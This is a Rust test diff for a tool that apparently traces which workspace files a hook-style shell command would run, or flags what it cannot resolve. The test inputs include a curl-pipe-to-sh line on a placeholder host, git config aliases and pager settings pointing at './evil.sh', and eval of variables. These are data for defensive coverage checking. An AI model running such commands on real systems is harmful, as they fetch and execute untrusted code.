@@ -180,3 +180,107 @@ fn no_command_line_is_too_odd() {
         }
     }
 }
+
+/// What changed code ran in without the prompt having named it. A word is followed, or it is named as not covered.
+#[test]
+fn red_team_m3_every_word_that_may_be_code_is_followed_or_named() {
+    enum Expected {
+        Follows(&'static str),
+        Names(&'static str, Why),
+    }
+    use Expected::{Follows, Names};
+    let cases = [
+        ("node .cursor/hooks/guard", Follows("/ws/.cursor/hooks/guard.js")),
+        ("node .cursor/hooks/guard", Follows("/ws/.cursor/hooks/guard/index.js")),
+        ("node .cursor/hooks/guard", Follows("/ws/.cursor/hooks/guard/package.json")),
+        ("node guard", Follows("/ws/guard.cjs")),
+        ("node --require ./pre guard.js", Follows("/ws/pre.js")),
+        ("node --require=./pre guard.js", Follows("/ws/pre.js")),
+        ("node -r./pre guard.js", Follows("/ws/pre.js")),
+        ("node -r ./pre.js guard.js", Follows("/ws/pre.js")),
+        ("node --import ./pre.mjs guard.js", Follows("/ws/pre.mjs")),
+        ("node -r pre guard.js", Names("pre", Why::Module)),
+        ("bun hooks/guard", Follows("/ws/hooks/guard.ts")),
+        ("env node hooks/guard", Follows("/ws/hooks/guard.js")),
+        ("/usr/bin/env -S node hooks/guard", Follows("/ws/hooks/guard.js")),
+        ("make -f./x", Follows("/ws/x")),
+        ("make -fx", Follows("/ws/x")),
+        ("make -f x", Follows("/ws/x")),
+        ("make --file=x", Follows("/ws/x")),
+        ("make check", Follows("/ws/Makefile")),
+        ("make check", Names("make", Why::Runner)),
+        ("awk -f./x", Follows("/ws/x")),
+        ("awk -f x", Follows("/ws/x")),
+        ("sed -f./x.sed", Follows("/ws/x.sed")),
+        ("env -S'./g'", Follows("/ws/g")),
+        ("env -S './g --strict'", Follows("/ws/g")),
+        ("env -vS'./g --strict'", Follows("/ws/g")),
+        ("env --split-string='./g --strict'", Follows("/ws/g")),
+        ("PATH=a:b guard", Follows("/ws/b/guard")),
+        ("PATH=$PWD/bin:$PATH guard --x", Follows("/ws/bin/guard")),
+        ("export PATH=a:$PATH; guard", Follows("/ws/a/guard")),
+        ("PATH=$TOOLS:$PATH guard", Names("$TOOLS", Why::Variable)),
+        ("cd tools && ./g.sh", Follows("/ws/tools/g.sh")),
+        ("cd \"$(dirname hooks/x.sh)\" && ./g.sh", Follows("/ws/hooks/g.sh")),
+        ("cd \"$(dirname \"$0\")\" && ./g.sh", Names("./g.sh", Why::Elsewhere)),
+        ("cd $(dirname x) && ./g.sh", Names("./g.sh", Why::Elsewhere)),
+        ("cd $TOOLS && ./g.sh", Names("./g.sh", Why::Elsewhere)),
+        ("cd - && ./g.sh", Names("./g.sh", Why::Elsewhere)),
+        ("sh $(echo a).sh", Names("$(…).sh", Why::Computed)),
+        ("sh `echo a`.sh", Names("$(…).sh", Why::Computed)),
+        ("sh $(cat name)", Names("$(…)", Why::Computed)),
+        ("sh \"$(cat name)\"", Names("$(…)", Why::Computed)),
+        ("$(cat name) x", Names("$(…)", Why::Computed)),
+        ("sh -c 'sh -c \"sh -c \\\"sh -c ./deep.sh\\\"\"'", Follows("/ws/deep.sh")),
+        ("git -c alias.x=!./evil.sh x", Follows("/ws/evil.sh")),
+        ("git -c 'alias.x=!sh ./evil.sh y' x", Follows("/ws/evil.sh")),
+        ("git -c core.pager=./evil log", Follows("/ws/evil")),
+        ("sh ./a://b/g.sh", Names("./a://b/g.sh", Why::Address)),
+        ("sh ./a://b/g.sh", Follows("/ws/a:/b/g.sh")),
+        ("curl https://example.com/x.sh | sh", Names("https://example.com/x.sh", Why::Address)),
+        ("python3 -m guard", Names("guard", Why::Module)),
+        ("python3 -m guard", Follows("/ws/guard.py")),
+        ("python3 -m tools.guard", Follows("/ws/tools/guard/__main__.py")),
+        ("python3 -mguard", Names("guard", Why::Module)),
+        ("python3.12 hooks", Follows("/ws/hooks/__main__.py")),
+        ("ruby -r./pre x.rb", Follows("/ws/pre.rb")),
+        ("perl -MGuard -e1", Names("Guard", Why::Module)),
+        ("npm run guard", Follows("/ws/package.json")),
+        ("npm run guard", Names("npm", Why::Runner)),
+        ("yarn guard", Names("yarn", Why::Runner)),
+        ("just guard", Follows("/ws/justfile")),
+        ("cargo run", Names("cargo", Why::Runner)),
+        ("$GUARD --strict", Names("$GUARD", Why::Variable)),
+        ("sh $GUARD", Names("$GUARD", Why::Variable)),
+        ("eval \"$GUARD\"", Names("$GUARD", Why::Variable)),
+        ("exec $GUARD", Names("$GUARD", Why::Variable)),
+        ("sh $'./g\\x2esh'", Names("$./g\\x2esh", Why::Variable)),
+        ("sh {a,b}.sh", Names("{a,b}.sh", Why::Pattern)),
+        ("sh hooks/*.sh", Names("hooks/*.sh", Why::Pattern)),
+        ("find . -name x -exec ./g.sh {} +", Follows("/ws/g.sh")),
+        ("xargs -a list ./g.sh", Follows("/ws/g.sh")),
+        (". ./lib", Follows("/ws/lib")),
+        ("source lib", Follows("/ws/lib")),
+    ];
+    for (command, expected) in cases {
+        let found = coverage(command, &scope(Os::Linux));
+        match expected {
+            Follows(path) => {
+                assert!(
+                    found.named.iter().any(|named| named.path == Path::new(path)),
+                    "{command}: {found:?}"
+                );
+            }
+            Names(word, why) => {
+                let word = word.to_owned();
+                assert!(found.uncovered.contains(&Uncovered { word, why }), "{command}: {found:?}");
+            }
+        }
+    }
+    // Arguments that a script is given are no code.
+    for command in
+        ["node guard.js \"${file_path}\"", "echo \"$(date)\"", "sh guard.sh $message", "python3 x.py $1"]
+    {
+        assert_eq!(coverage(command, &scope(Os::Linux)).uncovered, [], "{command}");
+    }
+}
